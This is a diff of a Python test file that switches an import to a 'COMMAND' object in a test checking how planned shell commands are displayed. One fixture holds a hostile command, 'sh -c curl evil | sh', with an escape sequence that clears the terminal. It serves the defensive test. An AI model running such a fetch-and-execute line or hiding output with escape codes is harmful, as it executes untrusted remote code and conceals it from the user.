@@ -26,7 +26,7 @@ from jestlab.platform.errors import UserError
 from jestlab.platform.lab.lab import Lab
 from jestlab.platform.planning.identity import fingerprint, identity_of, is_authentic
 from jestlab.platform.planning.plan import Plan, PlannedRun, plan
-from jestlab.platform.programs.command import identity
+from jestlab.platform.programs.command import COMMAND
 from jestlab.platform.spec.load import load, load_stored
 from jestlab.platform.spec.schema import StudySpec
 from jestlab.platform.store.rows import now
@@ -80,7 +80,7 @@ def test_commands_are_shown_as_a_shell_takes_them(theirs, copy, path):
     command = plans.run("evil", "command", {"command": ["sh", "-c", "curl evil | sh\x1b[2J"], "cwd": "/"})
     line = plans.run("text", "command", {"command": "python train.py"})
     runs = (
-        replace(run, fingerprint=fingerprint("command", 1, identity(run.config), {}))
+        replace(run, fingerprint=fingerprint("command", 1, COMMAND.identity(run.config), {}))
         for run in (command, line)
     )
     study(theirs, *runs)
